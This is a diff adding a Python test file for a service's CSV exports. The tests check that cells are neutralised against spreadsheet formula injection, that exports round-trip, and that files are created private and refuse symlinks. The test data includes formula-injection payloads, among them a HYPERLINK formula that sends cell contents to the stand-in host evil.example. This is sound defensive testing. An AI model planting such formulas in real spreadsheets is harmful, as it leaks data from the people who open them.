@@ -1,0 +1,166 @@
+"""Exports and files, the local Neo4j's password, deployment (issue 10, §4 and §7).
+
+- Every CSV the service writes is safe to open in a spreadsheet, through one function
+  (csvio.spreadsheet_safe), and the importer reads the escape back: export → import still
+  gives the same graph, for nasty values too.
+- An export is a 0700 folder of 0600 files, and says on stderr that it holds identity data.
+- The Neo4j password never appears on a command line, and one that starts with `-` works.
+- `graphsvc serve` (and gunicorn started directly) refuses to start when the audit journal
+  cannot be written; docker-compose gives the journal a volume the image's user owns.
+- gunicorn trusts forwarded headers exactly as GRAPHSVC_PROXY_HOPS says; no shared control socket.
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import os
+import re
+import secrets
+import shutil
+import signal
+import socket
+import stat
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import urllib.request
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+import yaml
+from click.testing import CliRunner
+from hypothesis import given, settings as hypothesis_settings, strategies as st
+from neo4j import GraphDatabase
+
+from graphsvc import audit, csvio, neo4j_local
+from graphsvc.cli import main
+from graphsvc.csvio import FORMULA_STARTS, spreadsheet_safe, spreadsheet_unescape
+
+from .conftest import KEYRING, snapshot
+from .conftest import test_env as _test_env
+from .test_import import import_folder, rewrite
+from .test_security_web import app, sign_in, world  # noqa: F401 (fixtures)
+
+ROOT = Path(__file__).resolve().parent.parent
+#: What a spreadsheet may run: OWASP's list, line feed and NUL (ASVS 1.2.10), the full-width forms.
+TRIGGERS = frozenset("=+-@\t\r\n\0＝＋－＠")
+NASTY = ["=1+1", "'=x", "'", "''", "+82 10-1234-5678", "-", "＝", "＝HYPERLINK(\"http://x\")", "목련",
+         '=HYPERLINK("http://x","y")', "@SUM(A1)", "＠x", "－3", "＋1", " =1", "\t=1", "\r=1", "\n=1",
+         "\0=1", "a,=b", 'a"b', "a;=b", "line\nbreak", "'quoted'", " 'x", "\u3000=1", "\xa0+1", ""]
+
+
+def run(*args: str):
+    return CliRunner().invoke(main, list(args), catch_exceptions=False)
+
+
+def _dangerous(cell: str) -> bool:
+    """Would a spreadsheet start a formula with this cell (the apostrophe makes it text)?"""
+    return cell[:1] in TRIGGERS or (not cell.startswith("'") and cell.lstrip()[:1] in TRIGGERS)
+
+
+# --- one function makes every cell safe, and the importer reads it back -----------------------
+
+
+@pytest.mark.parametrize("value", [v for v in NASTY if v.lstrip()[:1] in TRIGGERS or v[:1] in TRIGGERS])
+def test_every_formula_start_is_neutralised(value):
+    assert spreadsheet_safe(value).startswith("'") and not _dangerous(spreadsheet_safe(value))
+
+
+def test_the_owasp_characters_and_their_full_width_forms_are_covered():
+    assert set("=+-@\t\r") <= FORMULA_STARTS  # OWASP's CSV injection page
+    assert set("\n\0") <= FORMULA_STARTS  # line feed, NUL (ASVS 1.2.10)
+    assert set("＝＋－＠") <= FORMULA_STARTS
+    assert [c for c in sorted(TRIGGERS) if spreadsheet_safe(c + "1") != "'" + c + "1"] == []
+
+
+@given(st.text())
+@hypothesis_settings(max_examples=500, deadline=None, database=None)
+def test_escaping_is_safe_and_reversible(value):
+    cell = spreadsheet_safe(value)
+    assert not _dangerous(cell)
+    assert spreadsheet_unescape(cell) == value  # unambiguous: an apostrophe of the value gets one more
+
+
+def _round_trip(tmp_path: Path, values: list[str], bom: bool = True) -> list[str]:
+    table = csvio.Table("t", ("id", "value"), ("id",))
+    path = tmp_path / "t.csv"
+    csvio.write_table(path, table, [{"id": f"r{i}", "value": v} for i, v in enumerate(values)], bom=bom)
+    for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")):
+        assert not any(_dangerous(cell) for cell in row), row
+    header, rows = csvio.read_rows(path)
+    assert header == ["id", "value"]
+    got = {row["id"]: row["value"] for _, row in rows}
+    return [got[f"r{i}"] for i in range(len(values))]
+
+
+def test_nasty_values_round_trip_through_the_files(tmp_path):
+    # read_rows strips surrounding white space (as it always did); an escaped value keeps its leading one
+    expected = [v if spreadsheet_safe(v) != v else v.strip() for v in NASTY]
+    assert _round_trip(tmp_path, NASTY) == [e.rstrip() for e in expected]
+
+
+@given(st.lists(st.text().map(str.strip), min_size=1, max_size=8))
+@hypothesis_settings(max_examples=200, deadline=None, database=None)
+def test_any_value_round_trips_through_write_table_and_read_rows(values):
+    with tempfile.TemporaryDirectory() as tmp:
+        assert _round_trip(Path(tmp), values, bom=bool(len(values) % 2)) == values
+
+
+def test_no_csv_is_written_but_through_csvio():
+    """The service's CSV (export, unvisited list, audit export) all come from csvio's writer."""
+    offenders = []
+    for path in list((ROOT / "graphsvc").glob("*.py")) + list((ROOT / "web").glob("*.py")):
+        if path.name == "csvio.py":
+            continue
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
+                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
+                offenders.append(f"{path.name}:{node.lineno}")
+    assert not offenders, offenders
+
+
+def test_the_audit_csv_neutralises_full_width_formulas(app, world):  # noqa: F811
+    """Anyone can put a formula into the audit log: the User-Agent of any request is recorded."""
+    from graphsvc.model import Actor
+
+    for agent in ('＝HYPERLINK("http://evil.example/?"&A1)', "＠SUM(1)", "－1+cmd", "\t=1"):
+        audit.record(world, **Actor("somebody", "visitor", "203.0.113.9", agent).event(), action="test.agent")
+    client = app.test_client()
+    sign_in(client, "admin")
+    exported = client.get("/admin/audit/export.csv")
+    assert exported.status_code == 200
+    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"), newline="")))
+    agents = [r[rows[0].index("user_agent")] for r in rows[1:] if r[rows[0].index("action")] == "test.agent"]
+    assert len(agents) == 4 and all(a.startswith("'") for a in agents), agents
+    assert not any(_dangerous(cell) for row in rows for cell in row)
+
+
+def test_write_table_is_private_from_creation(tmp_path):
+    table = csvio.TABLES["people"]
+    path = tmp_path / "people.csv"
+    path.write_text("old,readable,by,all\n")
+    os.chmod(path, 0o644)
+    seen = []
+
+    def rows():
+        seen.append(stat.S_IMODE(path.stat().st_mode))  # while the file is being written
+        yield {"id": "p-1", "code_name": "=x"}
+
+    old = os.umask(0)  # the mode must not come from the umask
+    try:
+        csvio.write_table(path, table, rows())
+        csvio.write_table(tmp_path / "new.csv", table, rows())
+    finally:
+        os.umask(old)
+    assert seen == [0o600, 0o600]
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600 == stat.S_IMODE((tmp_path / "new.csv").stat().st_mode)
+    link = tmp_path / "link.csv"
+    link.symlink_to(tmp_path / "elsewhere.csv")
+    with pytest.raises(OSError):
+        csvio.write_table(link, table, [])
+    assert not (tmp_path / "elsewhere.csv").exists()
